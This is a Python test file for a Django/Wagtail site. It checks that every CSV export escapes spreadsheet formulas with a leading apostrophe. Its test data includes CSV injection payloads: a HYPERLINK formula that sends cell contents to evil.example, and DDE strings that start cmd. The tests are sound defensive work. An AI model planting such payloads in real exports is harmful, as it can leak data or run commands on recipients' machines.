"""Every CSV the site writes is safe to open in a spreadsheet program: text that a spreadsheet
would run as a formula is written with a leading apostrophe (home/spreadsheets.py), in the
public case study export and in every CSV export of the admin."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from home import spreadsheets
from home.spreadsheets import neutralise
from tests.factories import CaseStudyIndexPageFactory, CaseStudyPageFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
]


def parse(response):
    """The rows of a CSV response, read back with the csv module."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_neutralised(rows, values):
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(spreadsheets.FORMULA_STARTS), cell
    for value in values:
        assert any(cell.startswith("'") and cell[1:] == value for cell in cells), value


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Ghent", "a=b", " =1", "'=1", "5", "€-5", "\n=1"])
def test_other_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, 0, None, datetime.date(2026, 1, 1)])
def test_numbers_and_other_values_are_left_alone(value):
    assert neutralise(value) is value


def test_writers_neutralise_every_cell_and_heading():
    out = io.StringIO(newline="")
    spreadsheets.writer(out).writerows([["=1", -5, "-5"], ["ok", None, "@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'=1", "-5", "'-5"],
        ["ok", "", "'@x"],
    ]
    out = io.StringIO(newline="")
    writer = spreadsheets.DictWriter(out, fieldnames=["=a", "b"])
    writer.writeheader()
    writer.writerows([{"=a": "+1", "b": 2}])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'=a", "b"],
        ["'+1", "2"],
    ]


def test_every_admin_csv_export_streams_through_the_safe_writer():
    """Wagtail's admin exports inherit `stream_csv`; one that wrote its own would not be
    protected."""

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    views = list(subclasses(SpreadsheetExportMixin))
    assert len(views) > 5
    for view in [SpreadsheetExportMixin, *views]:
        assert view.stream_csv is spreadsheets._stream_csv, view


def test_wagtails_own_csv_stream_still_writes_formulas_as_they_are():
    """Fails once Wagtail escapes formula cells itself: then `protect_admin_exports` is to
    go."""

    class Export(SpreadsheetExportMixin):
        list_export = ["text"]
        export_headings = {"text": "Text"}

    class Row:
        text = "=1+1"

    lines = list(spreadsheets._stream_csv.upstream(Export(), [Row()]))
    assert lines[1] == b"=1+1\r\n"


@pytest.mark.django_db
def test_case_study_csv_export(client, home):
    index = CaseStudyIndexPageFactory(parent=home)
    for number, value in enumerate(HOSTILE):
        CaseStudyPageFactory(
            parent=index,
            title=f"Study {number}",
            slug=f"study-{number}",
            organisation=value,
            summary=value,
            co2e_tonnes_per_year=12.5,
        )
    response = client.get(index.url, {"format": "csv"})
    assert response.status_code == 200
    rows = parse(response)
    assert len(rows) == 1 + len(HOSTILE)
    assert_neutralised(rows, HOSTILE)
    heading = rows[0]
    by_title = {row[heading.index("title")]: row for row in rows[1:]}
    # Numbers stay numbers (the model allows no negative ones here; the writer test above
    # shows -5 written as -5).
    assert {row[heading.index("co2e_tonnes_per_year")] for row in rows[1:]} == {"12.5"}
    assert by_title["Study 3"][heading.index("organisation")] == "'-2+3"


@pytest.mark.django_db
def test_popular_searches_csv_export(client, admin_user):
    from search.models import QueryLog

    for value in HOSTILE:
        QueryLog.objects.create(
            locale="en", query=value, day=datetime.date.today(), searches=3, without_results=1
        )
    client.force_login(admin_user)
    response = client.get(reverse("popular_searches"), {"export": "csv"})
    assert response.status_code == 200
    rows = parse(response)
    assert rows[0] == ["Query", "Language", "Searches", "Without results"]
    assert_neutralised(rows, HOSTILE)
    assert {tuple(row[1:]) for row in rows[1:]} == {("en", "3", "1")}


@pytest.mark.django_db
def test_wagtails_search_terms_csv_export(client, admin_user):
    from wagtail.contrib.search_promotions.models import Query

    values = ["=1+1", "@sum(1)", "+cmd", "-2+3"]
    for value in values:
        Query.objects.create(query_string=value).add_hit()
    client.force_login(admin_user)
    response = client.get(reverse("wagtailsearchpromotions:search_terms"), {"export": "csv"})
    assert response.status_code == 200
    assert_neutralised(parse(response), values)


@pytest.mark.django_db
def test_wagtails_page_report_csv_export(client, admin_user, home):
    index = CaseStudyIndexPageFactory(parent=home)
    for number, value in enumerate(HOSTILE):
        page = CaseStudyPageFactory(parent=index, title=value, slug=f"hostile-{number}")
        page.locked, page.locked_by = True, admin_user
        page.save()
    client.force_login(admin_user)
    response = client.get(reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"})
    assert response.status_code == 200
    assert_neutralised(parse(response), HOSTILE)
